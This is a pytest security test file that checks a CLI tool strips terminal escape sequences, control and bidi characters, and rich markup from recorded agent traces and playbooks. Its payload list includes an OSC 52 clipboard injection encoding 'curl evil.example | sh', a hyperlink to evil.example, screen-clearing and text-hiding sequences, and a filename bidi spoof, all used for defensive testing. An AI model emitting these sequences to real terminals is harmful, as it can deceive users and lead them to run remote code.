"""Terminal escape sequences and rich markup in recorded text never reach the terminal (rel-07,
rel-22).

Every CLI command that prints model or tool text is run on a trace store (or playbook) whose
every text field holds one hostile payload: agent and model names, the user prompt, thoughts,
thinking, tool names, arguments (keys and values), results, errors, validation errors, the
termination, the run's error and output, and playbook strategies. The output must hold no
escape, C0/C1 control or bidi character (rich's own colour codes aside, when colour is forced
on), markup must show literally, and no command may crash.
"""

from __future__ import annotations

import io
import json
import re
import sqlite3
import sys
from pathlib import Path

import pytest

from toolcycle.cli import main
from toolcycle.cli.demo import run_demo
from toolcycle.messages import Usage
from toolcycle.models.scripted import ScriptedModel, call
from toolcycle.playbook import Playbook, Strategy
from toolcycle.playbook.store import ToolObservation
from toolcycle.tracing.stand_in import StandIn, StepOutcome
from toolcycle.tracing.store import TraceStore
from toolcycle.tracing.trace import AttemptRecord, Step, ToolCallRecord, Trace

from .terminal_fixtures import ENV

ROOT = Path(__file__).resolve().parents[2]

#: name -> hostile text. Markup payloads must also be shown literally.
PAYLOADS = {
    "osc52_clipboard": "x\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07y",
    "osc0_title_bel": "\x1b]0;owned\x07",
    "osc2_title_st": "\x1b]2;owned\x1b\\",
    "osc8_hyperlink": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "csi_clear_screen": "\x1b[2J\x1b[H\x1b[3J",
    "sgr_conceal": "shown\x1b[8mhidden",
    "dcs": "\x1bP+q544e\x1b\\",
    "c1_csi": "\x9b2J\x9b31m",
    "c1_osc": "\x9d0;owned\x9c",
    "c0_bell_backspace_cr": "abc\x07\x08\x08\x08xyz\rover\x00\x7f",
    "bidi_override": "user\u202etxt.exe\u202c and \u2066isolate\u2069",
    "markup_bold": "[bold]loud[/bold]",
    "markup_unbalanced_close": "billing[/x]",
    "markup_bare_close": "[/]",
    "markup_link": "[link=http://evil.example]click[/link]",
    "markup_open_bracket": "[not closed",
}
MARKUP = {k: v for k, v in PAYLOADS.items() if k.startswith("markup_")}

_RICH_SGR = re.compile(r"\x1b\[[0-9;]*m")
_UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def assert_neutral(output: str, payload: str, colour: bool = False) -> None:
    """No control or bidi character (only rich's colour codes when colour is on), no crash."""
    if colour:
        assert "\x1b[8m" not in output  # conceal is never one of rich's own styles
        output = _RICH_SGR.sub("", output)
    found = _UNSAFE.findall(output)
    assert not found, f"unsafe characters reached the terminal: {found!r}"
    assert "Traceback" not in output
    if payload in MARKUP.values():
        assert payload in output, "markup was interpreted instead of shown"


def hostile_trace(payload: str, run_id: str = "run-hostile") -> Trace:
    """A trace with the payload in every text field."""
    calls = [
        ToolCallRecord("c1", payload, {payload: payload, "n": 1}, 1, 1, result=payload,
                       approval={"decision": payload, "by": payload, "reason": payload},
                       stand_in=StandIn("fallback", payload, ok=False, alternative=payload,
                                        steps=(StepOutcome(payload, {payload: payload},
                                                           "timeout", payload, 2.0),))),
        ToolCallRecord("c2", "fetch", {"url": payload}, 1, 1, error=payload, kind=payload),
    ]
    pause = {"attempt": 1, "iteration": payload, "paused_at": 1.0, "resumed_at": payload,
             "pending": [{"call_id": payload, "tool_name": payload, "arguments": {"a": payload}}],
             "answers": {payload: {"decision": payload, "by": payload, "reason": payload}}}
    step = Step(1, 1, thought=payload, thinking=payload, tool_calls=calls,
                usage=Usage(10, 5, requests=1), repairs=[payload], model="step " + payload,
                tool_choice=payload, asked_again=(payload,))
    return Trace(
        run_id=run_id, agent_name=payload, model_name=payload, user_prompt=payload,
        started_at=1_780_000_000.0, ended_at=1_780_000_001.0, steps=[step],
        attempts=[AttemptRecord(1, errors=[payload], validator=payload)],
        usage=Usage(10, 5, requests=1, tool_calls=2), status="failure",
        termination={"reason": payload, "action": payload, "detail": payload},
        output=payload, error={"code": payload, "message": payload},
        strategies_shown=[payload], tools_offered=[payload, payload], metadata={"note": payload},
        pauses=[pause],
    )


@pytest.fixture(params=sorted(PAYLOADS))
def payload(request: pytest.FixtureRequest) -> str:
    return PAYLOADS[request.param]


@pytest.fixture
def trace_db(tmp_path: Path, payload: str) -> str:
    path = tmp_path / "traces.db"
    with TraceStore(path, redact=False) as store:
        store.save(hostile_trace(payload))
    return str(path)


@pytest.fixture
def playbook_db(tmp_path: Path, payload: str) -> str:
    path = str(tmp_path / "pb.db")
    pb = Playbook(path)
    pb.store.put([Strategy(id="s-1", domain=payload, advice=payload, tools=[payload],
                           applies_when=[payload], note=payload)])
    pb.store.add_tool_observations([ToolObservation(payload, 1.0, True, False, payload)])
    pb.close()
    return path


TRACE_COMMANDS = {
    "show_no_color": (["trace", "show", "run-hostile", "--no-color", "--width", "400"], False),
    "show_colour": (["trace", "show", "run-hostile", "--width", "400"], True),
    "list": (["trace", "list"], False),
    "list_colour": (["trace", "list"], True),
    "export_json": (["trace", "export", "run-hostile"], False),
    "export_all": (["trace", "export", "--all"], False),
    "export_jsonl": (["trace", "export", "--all", "--format", "jsonl"], False),
}


@pytest.mark.parametrize("command", sorted(TRACE_COMMANDS))
def test_trace_commands_neutralise(
    command: str, trace_db: str, payload: str, capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    argv, colour = TRACE_COMMANDS[command]
    monkeypatch.delenv("NO_COLOR", raising=False)
    if colour:
        monkeypatch.setenv("FORCE_COLOR", "1")
        monkeypatch.setenv("COLUMNS", "400")
    code = main([*argv, "--db", trace_db])
    out, err = capsys.readouterr()
    assert code == 0, err
    if command.startswith("export"):  # data, not a display: the markup check does not apply
        assert not _UNSAFE.findall(out) and "Traceback" not in out + err
    elif command.startswith("list"):  # a table cell may be clipped: check it did not crash
        assert_neutral(out + err, "", colour)
        assert "run-hostile" in out
    else:
        assert_neutral(out + err, payload, colour)


def test_trace_render_neutralises(payload: str) -> None:
    """``Trace.render`` is what ``toolcycle run`` and ``toolcycle demo`` print."""
    assert_neutral(hostile_trace(payload).render(max_chars=10_000), payload)


PLAYBOOK_COMMANDS = {
    "show": ["playbook", "show", "--candidates"],
    "stats": ["playbook", "stats"],
    "export_markdown": ["playbook", "export", "--format", "markdown"],
    "export_json": ["playbook", "export"],
}


@pytest.mark.parametrize("command", sorted(PLAYBOOK_COMMANDS))
def test_playbook_commands_neutralise(
    command: str, playbook_db: str, payload: str, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main([*PLAYBOOK_COMMANDS[command], "--db", playbook_db]) == 0
    out, err = capsys.readouterr()
    assert_neutral(out + err, payload if command in ("show", "export_markdown") else "")


@pytest.fixture
def in_repository(monkeypatch: pytest.MonkeyPatch, payload: str, tmp_path: Path) -> None:
    monkeypatch.chdir(ROOT)
    monkeypatch.syspath_prepend(str(ROOT))
    monkeypatch.setenv("TOOLCYCLE_TRACE_DB", str(tmp_path / "traces.db"))  # `run` records
    monkeypatch.setenv(ENV, payload.encode("unicode_escape").decode("ascii"))


SPEC = """[hostile_agent:Agent {instruction: "Fetch pages."} |
  [fetch_page:Tool {description: "Fetch a page"} | (url::String)==>(::String)]
]
"""


@pytest.mark.parametrize("as_json", [False, True], ids=["text", "json"])
@pytest.mark.usefixtures("in_repository")
def test_run_neutralises(
    as_json: bool, tmp_path: Path, payload: str, capsys: pytest.CaptureFixture[str]
) -> None:
    spec = tmp_path / "hostile.gram"
    spec.write_text(SPEC, encoding="utf-8")
    code = main(["run", str(spec), "--tools", "tests/security/terminal_fixtures.py", "--model",
                 "python:tests.security.terminal_fixtures:hostile_model",
                 *(["--json"] if as_json else []), payload])
    out, err = capsys.readouterr()
    assert code == 0, err
    assert_neutral(out + err, "" if as_json else payload)


@pytest.mark.parametrize("command", ["spec_check", "run"])
@pytest.mark.usefixtures("in_repository")
def test_spec_problems_neutralise(
    command: str, tmp_path: Path, payload: str, capsys: pytest.CaptureFixture[str]
) -> None:
    """Binding problems and spec errors quote the spec's own names (agent and tool)."""
    name = "`" + payload.replace("\\", "\\\\").replace("`", "\\`") + "`"
    spec = tmp_path / "bad.gram"
    spec.write_text(SPEC.replace("hostile_agent", name).replace("fetch_page", name),
                    encoding="utf-8")
    tools = ["--tools", "tests/security/terminal_fixtures.py"]
    argv = (["spec", "check", str(spec), *tools] if command == "spec_check" else
            ["run", str(spec), *tools, "--model",
             "python:tests.security.terminal_fixtures:hostile_model", "hi"])
    main(argv)
    out, err = capsys.readouterr()
    assert_neutral(out + err, "")


def test_demo_neutralises(
    payload: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    script = [call("sayHello", {"personName": payload}), payload,
              call("find_customer", {"name": payload}), payload]
    monkeypatch.setattr("toolcycle.models.resolve_model", lambda name: ScriptedModel(script))
    run_demo("scripted", out=sys.stdout)
    out, err = capsys.readouterr()
    assert_neutral(out + err, payload)


def craft_numbers(db: str, payload: str) -> None:
    """Put the payload where numbers belong (a crafted or corrupted traces.db, as in rel-04)."""
    with sqlite3.connect(db) as conn:
        for position, data in conn.execute("SELECT position, data FROM steps").fetchall():
            step = json.loads(data)
            step.update(iteration=payload, attempt=payload, model_ms=payload, tools_ms=payload)
            step["usage"] = {"input_tokens": payload, "output_tokens": payload}
            for record in step["tool_calls"]:
                record.update(duration_ms=payload, iteration=payload, attempt=payload)
            conn.execute("UPDATE steps SET data = ? WHERE position = ?",
                         (json.dumps(step), position))
        conn.execute("UPDATE runs SET iterations = ?, input_tokens = ?, output_tokens = ?,"
                     " started_at = ?, ended_at = ?", (payload,) * 5)
    conn.close()


@pytest.mark.parametrize("argv", [["show", "run-hostile"], ["list"], ["list", "--json"],
                                  ["export", "--all"]], ids=" ".join)
def test_crafted_numbers_neither_crash_nor_inject(
    argv: list[str], trace_db: str, payload: str, capsys: pytest.CaptureFixture[str]
) -> None:
    craft_numbers(trace_db, payload)
    code = main(["trace", *argv, "--db", trace_db])  # an exception here fails the test
    out, err = capsys.readouterr()
    assert code in (0, 1)
    if argv[0] == "show" and code == 1:
        assert "cannot be read" in err  # one line saying so
    assert_neutral(out + err, "")


class _Terminal(io.StringIO):
    """A stdout that says it is a terminal."""

    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("to", ["gram", "json"])
def test_spec_convert_to_a_terminal_neutralises(
    to: str, tmp_path: Path, payload: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A spec's text is untrusted too; gram cannot escape controls, so a terminal gets escapes."""
    spec = tmp_path / "agent.json"
    spec.write_text(json.dumps({"spec_version": 1, "name": "a", "instructions": payload,
                                "description": payload}), encoding="utf-8")
    terminal = _Terminal()
    monkeypatch.setattr(sys, "stdout", terminal)
    assert main(["spec", "convert", str(spec), "--to", to]) == 0
    assert_neutral(terminal.getvalue(), "")
